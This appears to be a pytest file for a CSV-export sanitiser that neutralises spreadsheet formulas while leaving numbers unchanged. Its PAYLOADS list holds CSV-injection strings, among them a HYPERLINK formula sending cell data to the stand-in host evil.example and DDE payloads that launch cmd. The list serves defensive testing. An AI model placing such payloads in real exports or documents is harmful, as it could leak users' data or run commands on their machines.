"""CSV for spreadsheets: nothing in a text runs, and no number changes."""

import csv
import io
import re

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from analysis.book.display.downloads import csv_link
from analysis.results.files import csv_text as results_text
from analysis.results.schema.spreadsheets import csv_text, for_spreadsheets, harmless
from schema_support import rows_of

# From OWASP's page on CSV injection, and what has been used against exports.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+6.0% (area around)",
    "-1,2",
    "+1;=1",
    "-2\n",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\0=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "-",
    "=",
]
PLAIN = [
    "+12.7%",
    "-3.2",
    "+1,234",
    "-1e-05",
    "",
    "Stoke-on-Trent",
    "a = b",
    "x@example.org",
    "1+1",
    "'quoted'",
    "Ynys Môn",
    " two words",
    "5% to 10%",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_that_a_spreadsheet_would_run_has_an_apostrophe(payload: str) -> None:
    header, row = cells(csv_text(pd.DataFrame({"name": [payload]})))
    assert row == [f"'{payload}"]
    assert header == ["name"]


@pytest.mark.parametrize("plain", PLAIN)
def test_other_texts_stay_as_they_are(plain: str) -> None:
    assert harmless(plain) == plain


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_header_is_a_text_too(payload: str) -> None:
    header, row = cells(csv_text(pd.DataFrame({payload: [-1.5]})))
    assert header == [f"'{payload}"]
    assert row == ["-1.5"]


@settings(deadline=None)
@given(st.text())
def test_no_text_begins_with_a_sign_of_a_formula(text: str) -> None:
    safe = harmless(text)
    assert safe in (text, f"'{text}")
    if re.fullmatch(r"[+-][0-9.,eE%+-]+", text):
        return  # a number with its sign may stay: see PLAIN and PAYLOADS
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert harmless(safe) == safe


@settings(deadline=None)
@given(st.lists(st.floats(allow_nan=False, allow_infinity=False, width=32), min_size=1))
def test_numbers_stay_numbers(values: list[float]) -> None:
    rows = cells(csv_text(pd.DataFrame({"value": values})))[1:]
    assert [float(cell) for (cell,) in rows] == pytest.approx(values, rel=1e-9, abs=1e-300)


def test_whole_numbers_truths_and_missing_cells_stay() -> None:
    frame = pd.DataFrame({"n": [-1, 2], "ok": [True, False], "name": [None, "b"], "mixed": [-1.5, "-x"]})
    assert cells(csv_text(frame))[1:] == [["-1", "True", "", "-1.5"], ["2", "False", "b", "'-x"]]


def test_an_infinite_number_is_an_empty_cell() -> None:
    frame = pd.DataFrame({"low": [-np.inf, 1.0], "high": pd.Series([np.inf, "none"], dtype=object)})
    assert cells(csv_text(frame))[1:] == [["", ""], ["1", "none"]]


def test_a_spreadsheet_sees_the_encoding_and_the_lines() -> None:
    text = csv_text(pd.DataFrame({"name": ["Ynys Môn", 'two\nlines, "so"']}))
    assert text == '\ufeffname\r\nYnys Môn\r\n"two\nlines, ""so"""\r\n'


def test_two_columns_of_one_name_both_stay() -> None:
    frame = pd.DataFrame([["=1", 2.0]], columns=["x", "x"])
    assert cells(csv_text(frame)) == [["x", "x"], ["'=1", "2"]]


def test_a_page_offers_the_same() -> None:
    link = csv_link(pd.DataFrame({"name": ["=1+1"]}), "one", "one")
    assert "%EF%BB%BFname%0D%0A%27%3D1%2B1" in link


def test_a_file_of_results_keeps_its_digits_and_loses_its_formulas(tmp_path) -> None:
    rows = rows_of(
        "models", 2, term=["=1+1", "rho"], estimate=[-0.1234567891, 1e-300], ci_low=[-np.inf, -2], ci_high=[np.inf, -1]
    )
    path = tmp_path / "models.csv"
    path.write_text(results_text("models", rows), encoding="utf-8")
    there = [
        dict(zip(("term", "estimate", "ci_low", "ci_high"), r[4:6] + r[7:9], strict=True))
        for r in cells(for_spreadsheets(path))[1:]
    ]
    assert there[0] == {"term": "'=1+1", "estimate": "-0.1234567891", "ci_low": "", "ci_high": ""}
    assert there[1] == {"term": "rho", "estimate": "1e-300", "ci_low": "-2", "ci_high": "-1"}
